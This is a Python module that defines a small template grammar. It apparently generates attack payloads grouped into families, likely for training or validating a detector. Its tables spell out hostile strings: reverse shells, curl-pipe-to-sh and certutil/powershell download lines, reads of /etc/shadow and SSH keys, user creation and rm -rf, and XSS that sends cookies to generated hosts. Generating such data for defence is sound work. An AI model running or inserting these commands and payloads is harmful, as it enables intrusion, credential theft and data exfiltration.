"""The little language the payload grammars are written in.

`«name»` is one production of the table `name`, `«a¦b¦c»` one of three texts, `«?text»` the text or nothing. The signs
were chosen because no payload needs them, so that everything else stands as it is sent. Productions may nest.
"""

import re

TOKEN = re.compile(r"«([^«»]*)»")


class Grammar:
    """Tables of productions with one entry table per attack class."""

    def __init__(self, cls, templates, tables=None):
        self.cls = cls
        self.templates = list(templates)
        self.tables = dict(COMMON)
        self.tables.update(tables or {})

    def family(self, index):
        """The name of a template's family: templates, not payloads, are held out for validation."""
        return f"grammar/{self.cls}/{index:02d}"

    def make(self, rng, index=None):
        """One payload and the family it belongs to."""
        index = rng.randrange(len(self.templates)) if index is None else index
        return self.expand(self.templates[index], rng), self.family(index)

    def expand(self, text, rng):
        """Replaces the innermost marks until none is left. A cycle in the tables is a mistake and raises."""
        for _ in range(200):
            text, found = TOKEN.subn(lambda mark: self._choose(mark.group(1), rng), text)
            if not found:
                return text
        raise ValueError(f"grammar of {self.cls} does not end: {text[:80]}")

    def _choose(self, mark, rng):
        if mark.startswith("?"):
            return mark[1:] if rng.random() < 0.5 else ""
        if "¦" in mark:
            return rng.choice(mark.split("¦"))
        table = self.tables.get(mark)
        if table is None:
            raise KeyError(f"grammar of {self.cls} has no table {mark!r}")
        return str(table(rng)) if callable(table) else rng.choice(table)


def _word(rng):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 9)))


def _host(rng):
    return f"{_word(rng)}.{rng.choice(['example', 'test', 'invalid', 'net', 'com', 'io', 'ru', 'xyz', 'site'])}"


def _ip(rng):
    return ".".join(str(rng.randint(1, 254)) for _ in range(4))


COMMON = {
    "n": lambda rng: rng.randint(0, 9),
    "num": lambda rng: rng.choice([rng.randint(0, 20), rng.randint(0, 9999), rng.randint(10**4, 10**6)]),
    "port": lambda rng: rng.choice([80, 443, 8080, 8443, 9200, 6379, 11211, 2375, rng.randint(1024, 65535)]),
    "word": _word,
    "host": _host,
    "ip": _ip,
    "target": lambda rng: _ip(rng) if rng.random() < 0.4 else _host(rng),
    "file": ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/proc/self/environ", "/proc/self/cmdline",
             "/etc/issue", "/var/log/apache2/access.log", "/root/.ssh/id_rsa", "/home/«word»/.bash_history",
             "/var/www/html/config.php", "/app/.env", "/etc/nginx/nginx.conf", "/proc/1/cgroup", "/etc/crontab",
             "/opt/«word»/conf/settings.xml", "/usr/local/etc/«word».conf", "/srv/«word»/secrets.json",
             "/var/lib/mysql/«word»/user.MYD", "/run/secrets/«word»"],
    "winfile": [r"c:\windows\win.ini", r"C:\boot.ini", r"c:\windows\system32\drivers\etc\hosts",
                r"C:\inetpub\wwwroot\web.config", r"c:\windows\system.ini", r"C:\Users\«word»\Desktop\«word».txt"],
    "cmd": ["id", "whoami", "uname -a", "cat «file»", "ls -la «?/»", "ls", "pwd", "hostname", "ps aux", "env", "ifconfig",
            "netstat -an", "sleep «n»", "ping -c «n» «target»", "curl http://«target»/«word»", "wget http://«target»/«word».sh",
            "nslookup «host»", "curl -s http://«target»:«port»/«word»|sh", "head -n 5 «file»", "tail «file»", "more «file»",
            "wget -qO- «target»/«word»", "dig «host»", "nc «target» «port» -e /bin/sh", "bash -i >& /dev/tcp/«ip»/«port» 0>&1",
            "python«?3» -c 'import os;os.system(\"id\")'", "perl -e 'print «num»'", "php -r 'phpinfo();'", "touch /tmp/«word»",
            "rm -rf /tmp/«word»", "echo «num»", "echo «word» > /tmp/«word»", "find / -name «word»", "chmod +x /tmp/«word»",
            "/bin/cat «file»", "/usr/bin/id", "/bin/ls -la", "nc -e /bin/bash «ip» «port»", "base64 «file»", "grep root «file»",
            "tftp «ip»", "ssh «word»@«target»", "kill -9 «num»", "cp «file» /tmp/«word»", "mknod /tmp/«word» p", "od «file»"],
    "wincmd": ["dir", "dir c:\\", "type «winfile»", "ipconfig /all", "whoami", "net user", "net user «word» «word» /add",
               "systeminfo", "ver", "tasklist", "ping -n «n» «target»", "certutil -urlcache -f http://«target»/«word».exe «word».exe",
               "powershell -c \"iwr http://«target»/«word».ps1\"", "powershell -nop -w hidden -enc SQBFAFgA", "cmd /c dir",
               "cmd.exe /c whoami", "echo %USERNAME%", "echo %PATH%", "set", "reg query HKLM", "nslookup «host»", "timeout «n»"],
    "js": ["alert(«num»)", "alert(1)", "alert`«num»`", "confirm(«num»)", "prompt(«num»)", "alert(document.cookie)", "alert('«word»')",
           "alert(document.domain)", "alert(/«word»/)", "alert(String.fromCharCode(88,83,83))", "eval(atob('YWxlcnQoMSk='))", "top['alert'](1)",
           "fetch('//«host»/?c='+document.cookie)", "location='//«host»/'+document.cookie", "new Image().src='//«host»/'+document.cookie",
           "window['al'+'ert'](«num»)", "self[`alert`](1)", "import('//«host»/x.js')", "print()", "console.log(«num»)", "navigator.sendBeacon('//«host»',document.cookie)",
           "document.write('<img src=//«host»/'+document.cookie+'>')", "[].constructor.constructor('alert(1)')()", "setTimeout('alert(1)',«num»)",
           "parent.alert(1)", "(alert)(1)", "throw onerror=alert,1", "document.location.href='http://«host»/«word»'", "$.getScript('//«host»/x')"],
}
